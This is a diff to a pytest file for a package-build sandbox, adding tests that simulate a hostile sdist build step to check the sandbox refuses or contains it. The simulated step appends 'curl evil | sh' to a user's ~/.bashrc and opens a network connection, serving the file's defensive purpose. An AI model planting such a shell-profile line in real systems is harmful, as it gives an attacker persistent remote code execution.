@@ -15,6 +15,8 @@ from __future__ import annotations
 
 import json
 import os
+import pwd
+import socket
 import subprocess
 import tempfile
 from collections.abc import Iterator
@@ -22,6 +24,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from as_nobody import as_nobody
 from fake_host import serving
 from hostile_sdist import hostile_sdist, report_dir, reports
 
@@ -32,6 +35,8 @@ from servefleet.release import builds, pylock, resolve as resolving, stack as st
 
 SECRET = "index-secret-7f3a"
 HF = "hf_secret_token_91c2"
+# only a root controller builds (#46 item 6); the unit tests run as root
+needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only a root controller builds sdists")
 
 
 @pytest.fixture()
@@ -77,14 +82,13 @@ def indexes(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[dict[st
 def assert_found_nothing(found: list[dict[str, Any]]) -> None:
     assert found, "the backend never ran: nothing was measured"
     for r in found:
-        # as another user the root-only file is its own, and readable: only root drops to nobody
-        assert [f for f in r["found"] if os.geteuid() == 0 or not f.startswith("read ")] == [], r
-        if os.geteuid() == 0:
-            assert r["uid"] == sandbox.build_ids()[0]  # type: ignore[index]
+        assert r["found"] == [], r
+        assert r["uid"] == sandbox.build_ids()[0]
         # its own namespace: uv, the interpreter and itself; never the controller or pytest
         assert {p.split("/")[2] for p in r["procs"]} <= {str(n) for n in range(1, 40)}
 
 
+@needs_root
 def test_lock_builds_an_sdist_for_its_metadata_where_no_credential_is(
     indexes: dict[str, Any],
 ) -> None:
@@ -104,6 +108,7 @@ def test_lock_builds_an_sdist_for_its_metadata_where_no_credential_is(
     assert reports(indexes["report"]) == []
 
 
+@needs_root
 def test_the_uv_that_holds_credentials_cannot_start_a_build(indexes: dict[str, Any]) -> None:
     st = indexes["stack"]
     env = {**stacks.credentials_env(st, "u", SECRET), "UV_CACHE_DIR": str(resolving.lock_cache())}
@@ -117,6 +122,7 @@ def test_the_uv_that_holds_credentials_cannot_start_a_build(indexes: dict[str, A
     assert reports(indexes["report"]) == []  # no backend ran
 
 
+@needs_root
 def test_the_controller_build_of_an_sdist_runs_where_no_credential_is(
     indexes: dict[str, Any],
 ) -> None:
@@ -132,6 +138,7 @@ def test_the_controller_build_of_an_sdist_runs_where_no_credential_is(
     assert_found_nothing(reports(indexes["report"]))
 
 
+@needs_root
 def test_the_wheelhouse_runs_no_index_code(indexes: dict[str, Any]) -> None:
     st = indexes["stack"]
     text = resolving.resolve(st, "u", SECRET)
@@ -145,6 +152,7 @@ def test_the_wheelhouse_runs_no_index_code(indexes: dict[str, Any]) -> None:
     assert reports(indexes["report"]) == []
 
 
+@needs_root
 def test_a_sandboxed_process_sees_only_its_own_namespace_and_no_secret() -> None:
     script = (
         "import os, glob; "
@@ -160,16 +168,88 @@ def test_a_sandboxed_process_sees_only_its_own_namespace_and_no_secret() -> None
     pids, uid, leaked = out
     assert max(json.loads(pids)) < 10 and os.getpid() not in json.loads(pids)
     assert leaked == "[]"
-    if os.geteuid() == 0:
-        assert int(uid) == sandbox.build_ids()[0]  # type: ignore[index]
+    assert int(uid) == sandbox.build_ids()[0]
 
 
-def test_the_user_namespace_form_for_a_controller_that_is_not_root() -> None:
-    cmd = sandbox.argv(["/bin/sh", "-c", "ls /proc | grep -c '^[0-9]'"], None)
-    assert cmd[1:3] == ["--user", "--pid"]
-    proc = subprocess.run(cmd, capture_output=True, text=True, env={"PATH": "/usr/bin:/bin"})
-    assert proc.returncode == 0, proc.stderr
-    assert int(proc.stdout) < 10
+# A build step as the hostile sdist of #46 item 6 ran it: it appends to its user's ~/.bashrc
+# (BASHRC) and opens a TCP connection (PORT), then writes in its workspace
+STEP = (
+    "import socket; open(BASHRC, 'a').write('curl evil | sh\\n'); "
+    "socket.create_connection(('127.0.0.1', PORT), timeout=5).close(); "
+    "open('made-here', 'w').write('x')"
+)
+# run as nobody, the controller's user: the step in the sandbox, what happened in result.json
+AS_CONTROLLER = """
+import json
+from servefleet.base import sandbox
+out = {}
+try:
+    with sandbox.workspace() as space:
+        proc = space.run(["/usr/bin/python3", "-c", STEP], timeout=60)
+        out["ran"] = [proc.returncode, proc.stderr[-300:], (space.path / "made-here").exists()]
+except sandbox.SandboxError as e:
+    out["refused"] = str(e)
+try:
+    sandbox.build_ids("evil-0.1.tar.gz")  # as sdists.build_wheel asks: the refusal names it
+except Exception as e:
+    out["named"] = str(e)
+open("result.json", "w").write(json.dumps(out))
+"""
+
+
+@pytest.fixture()
+def home() -> Iterator[Path]:
+    """A home of nobody's (the controller's user in the next test) with its ``.bashrc``."""
+    nobody = pwd.getpwnam("nobody")
+    path = Path(tempfile.mkdtemp(prefix="servefleet-home-", dir="/tmp"))
+    (path / ".bashrc").write_text("# nobody's\n")
+    for made in (path, path / ".bashrc"):
+        os.chown(made, nobody.pw_uid, nobody.pw_gid)
+    yield path
+    subprocess.run(["rm", "-rf", str(path)], check=False)
+
+
+@needs_root
+def test_a_controller_that_is_not_root_runs_no_index_code(home: Path) -> None:
+    """#46 item 6: a controller that is not root ran the build as itself in a user namespace,
+    which hides no file: the step appended to that user's ``~/.bashrc`` and reached the
+    network. Only root can make the build another user's, so the build is refused in one line
+    that says how to run one, and the step never runs. Before the fix it ran: ``refused`` was
+    missing and ``.bashrc`` held the line."""
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen()
+        listener.settimeout(0.5)
+        step = STEP.replace("BASHRC", repr(str(home / ".bashrc")))
+        step = step.replace("PORT", str(listener.getsockname()[1]))
+        code = f"STEP = {step!r}\n{AS_CONTROLLER}"
+        assert as_nobody(home, code) == 0
+        result = json.loads((home / "result.json").read_text())
+        assert (home / ".bashrc").read_text() == "# nobody's\n", result
+        with pytest.raises(TimeoutError):
+            listener.accept()  # nothing connected
+    not_root = sandbox.NOT_ROOT
+    assert result == {"refused": not_root, "named": f"evil-0.1.tar.gz: {not_root}"}
+    assert "run this command as root" in not_root and "\n" not in not_root
+
+
+@needs_root
+def test_as_root_the_build_writes_only_its_workspace(home: Path) -> None:
+    """The root controller's build runs as nobody: the controller's files are not its own (here a
+    0644 file of root's), its workspace is."""
+    root_file = home / "root-file"
+    root_file.write_text("root's\n")
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen()
+        step = STEP.replace("BASHRC", repr(str(root_file)))
+        step = step.replace("PORT", str(listener.getsockname()[1]))
+        with sandbox.workspace() as space:
+            proc = space.run(["/usr/bin/python3", "-c", step], timeout=60)
+            assert "PermissionError" in proc.stderr and proc.returncode != 0
+            assert root_file.read_text() == "root's\n"
+            proc = space.run(["/usr/bin/python3", "-c", "open('made-here', 'w').write('x')"])
+            assert proc.returncode == 0 and (space.path / "made-here").is_file()
 
 
 def test_an_index_that_cannot_be_reached_is_unreachable_not_bad_data(
